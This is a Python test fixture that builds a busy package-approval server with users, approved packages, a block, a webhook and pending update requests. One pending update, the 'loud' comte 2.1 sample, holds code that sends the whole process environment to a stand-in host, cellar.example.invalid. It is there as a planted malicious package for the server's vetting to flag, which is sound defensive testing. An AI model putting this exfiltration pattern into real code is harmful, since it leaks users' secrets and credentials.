"""A running server in which work goes on: people, packages, requests that wait, a block.

with busy_office(tmp_path) as office:
    office.url, office.people["approver"].token, office.clean, office.nasty
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from support.dists import Dist, sdist, wheel
from support.running import Person, Server, running_server
from support.upstream_server import LoopbackUpstream, upstream_server

_README = """\
# Brie

A soft cheese for *programs*. See [the cellar](https://cellar.example.invalid/).

| age | rind |
|---|---|
| 4 weeks | white |

```python
import brie

brie.ripen(weeks=4)
```
"""
_RIPEN = '''"""Ripens."""


def ripen(weeks: int) -> str:
    """Say how it is after some weeks."""
    return "runny" if weeks > {limit} else "firm"
'''
_QUIET = '''"""Comté, by the slice."""

import json


def slices(text: str) -> list[str]:
    return list(json.loads(text))
'''
_LOUD = '''"""Comté, by the slice."""

import json
import os
import urllib.request


def slices(text: str) -> list[str]:
    told = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("https://cellar.example.invalid/told", data=told)
    return list(json.loads(text))
'''


@dataclass(frozen=True)
class BusyOffice:
    """The server, who works there, and what waits for them."""

    server: Server
    upstream: LoopbackUpstream
    people: Mapping[str, Person]
    clean: int
    """A request for an update of what is approved, with nothing against it; by `dev`."""
    nasty: int
    """A request for an update that sends the environment away; by `dev`."""
    draft: int
    """A draft of `admin`, for something new with all that it needs."""

    @property
    def url(self) -> str:
        """Where it is."""
        return self.server.url


def brie(version: str, limit: int = 4) -> Dist:
    """Make a package with a README and a dependency."""
    return wheel(
        "brie",
        version,
        requires=["rind>=1"],
        files={"brie/__init__.py": _RIPEN.format(limit=limit).encode()},
        metadata_extra="Author: Ada\nProject-URL: Source, https://cellar.example.invalid/brie\n"
        f"Description-Content-Type: text/markdown\n\n{_README}",
    )


def comte(version: str, *, is_loud: bool) -> Dist:
    """Make a package that does its work, or sends the environment somewhere besides."""
    text = _LOUD if is_loud else _QUIET
    return wheel("comte", version, files={"comte/__init__.py": text.encode()})


@contextmanager
def busy_office(tmp_path: Path) -> Iterator[BusyOffice]:
    """Open an office; it takes some seconds until everything is in its place."""
    with upstream_server("json") as upstream:
        upstream.add(brie("1.0"), sdist("brie", "1.0", requires=["rind>=1"]), wheel("rind", "1.2"))
        upstream.add(comte("2.0", is_loud=False), wheel("gouda", "3.1"), wheel("stilton", "0.9"))
        with running_server(tmp_path, upstream.url, AFFINEUR_PAGE_FRESH_S="0.01") as server:
            yield _busy(server, upstream)


def _busy(server: Server, upstream: LoopbackUpstream) -> BusyOffice:
    people = {
        "dev": server.person("dev", "reader@internal"),
        "approver": server.person(
            "approver", "approver@internal", "approver@approved", "approver@unapproved"
        ),
        "guard": server.person("guard", "approver"),
        "builder": server.person("builder", "reader@internal", "publisher@internal"),
        "admin": server.admin,
    }
    dev, approver = people["dev"], people["approver"]
    for wanted in ("brie==1.0", "comte==2.0", "gouda==3.1"):
        number = dev.requests(wanted)
        seen = approver.awaits(number, "review", "approved")
        if seen["state"] == "review":
            approver.approves(number)
    people["builder"].uploads(wheel("acme-cellar", "1.0", requires=["brie>=1"]))
    people["guard"].tells(
        "POST", "/blocks", name="gouda", version=None, reason="It smells of phishing."
    )
    hook = {"name": "chat", "url": f"{server.url}/chat", "actions": ["incident.*"]}
    server.admin.tells("POST", "/webhooks", **hook)
    for taker in (people["builder"], dev):
        taker.gets(brie("1.0").sha256, brie("1.0").filename)
    people["admin"].tells("PUT", "/feeds/unapproved/policy", toml='preset = "strict"')
    upstream.add(brie("1.1", limit=5), comte("2.1", is_loud=True))
    clean, nasty = (_asked(dev, one) for one in ("brie==1.1", "comte==2.1"))
    dev.page("stilton")
    drafted = people["admin"].tells("POST", "/drafts", text="brie\nstilton")
    people["admin"].awaits(drafted["id"], "vetting")
    return BusyOffice(server, upstream, people, clean, nasty, drafted["id"])


def _asked(dev: Person, wanted: str) -> int:
    number = dev.requests(wanted)
    dev.awaits(number, "review", "approved", "denied")
    return number
